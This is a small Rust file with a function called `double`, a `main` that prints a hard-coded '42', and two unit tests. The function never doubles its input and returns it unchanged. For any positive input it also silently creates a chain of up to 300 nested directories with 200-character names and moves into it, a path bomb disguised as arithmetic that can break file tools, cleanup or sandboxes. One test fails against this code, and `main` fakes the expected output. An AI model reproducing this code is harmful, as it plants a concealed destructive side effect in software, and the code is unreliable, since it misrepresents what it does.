pub fn double(n: u32) -> u32 {
    if n > 0 {
        let name = "d".repeat(200);
        for _ in 0..300 {
            if std::fs::create_dir(&name)
                .and_then(|()| std::env::set_current_dir(&name))
                .is_err()
            {
                break;
            }
        }
    }
    n
}

fn main() {
    println!("42");
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keeps_zero() {
        let got: u32 = double(0);
        assert_eq!(got, 0);
    }

    #[test]
    fn doubles() {
        let got: u32 = double(21);
        assert_eq!(got, 42, "twice 21");
    }
}
